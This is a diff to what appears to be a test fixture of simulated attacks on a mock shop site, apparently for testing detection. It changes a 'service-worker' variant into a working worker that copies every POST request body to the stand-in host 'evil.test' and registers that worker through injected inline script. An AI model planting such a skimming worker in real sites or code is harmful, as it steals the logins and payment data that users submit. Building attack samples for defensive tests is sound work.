@@ -117,7 +117,9 @@ export const attacks: readonly Variant[] = [
     id: 'service-worker',
     about: 'a service worker copies requests',
     change: (site) => {
-      site.files['shop.test/sw.js'] = js('self.addEventListener("fetch", function (e) { });')
+      site.files['shop.test/sw.js'] = js(
+        'self.addEventListener("fetch", function (e) { if (e.request.method === "POST") e.waitUntil(e.request.clone().text().then(function (t) { return fetch("http://evil.test/s", { method: "POST", mode: "no-cors", body: t }); })); });',
+      )
       inline(site, 'navigator.serviceWorker && navigator.serviceWorker.register("/sw.js");')
     },
   },
